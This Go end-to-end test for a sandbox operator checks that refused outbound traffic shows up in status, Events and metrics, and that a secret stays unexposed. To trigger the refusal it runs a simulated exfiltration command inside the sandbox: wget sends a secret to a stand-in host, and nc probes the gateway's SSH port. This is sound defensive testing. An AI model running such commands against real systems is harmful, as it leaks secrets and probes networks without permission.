// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"botbottle.dev/bottle-operator/test/story"
)

// Refused traffic is reported: hosts that the bundle denied are in the status, and
// packets that the wall dropped are in an Event and a metric.
func TestRefusedTrafficIsReported(t *testing.T) {
	t.Parallel()
	c := connect(t)
	b := bottleOn(node1, c.Namespace(t), "refused", "refused")
	c.Apply(t, b)
	c.WaitRunning(t, b)
	const secret = "s3cr3t-in-a-path-77a1"
	c.TryExec(t, node1, "smolvm", "machine", "exec", "--name", story.ID(b), "--",
		"sh", "-c", "wget -qO- http://denied.test/"+secret+"?q="+secret+"; nc -w 1 "+b.Status.Network.Gateway+" 22 </dev/null; true")
	c.WaitFor(t, b, "to list what its bundle denied", func() bool {
		return b.Status.Egress != nil && slices.Contains(b.Status.Egress.RecentDenials, "denied.test:80")
	})
	c.Eventually(t, "an Event EgressRefused that names the gateway", func() (string, bool) {
		events := &corev1.EventList{}
		err := c.List(t.Context(), events, client.InNamespace(b.Namespace))
		return fmt.Sprint(err, len(events.Items)), slices.ContainsFunc(events.Items, func(e corev1.Event) bool {
			return e.Reason == "EgressRefused" && strings.Contains(e.Message, "arp "+b.Status.Network.Gateway)
		})
	})
	metrics := c.Exec(t, node1, "busybox", "wget", "-qO-", "http://127.0.0.1:8080/metrics")
	want := fmt.Sprintf("bottle_agent_wall_dropped_packets_total{bottle=%q,namespace=%q} ", b.Name, b.Namespace)
	if i := strings.Index(metrics, want); i < 0 || strings.HasPrefix(metrics[i+len(want):], "0\n") {
		t.Errorf("metrics: got no %s above 0", want)
	}
	c.WantNotExposed(t, b, secret)
}
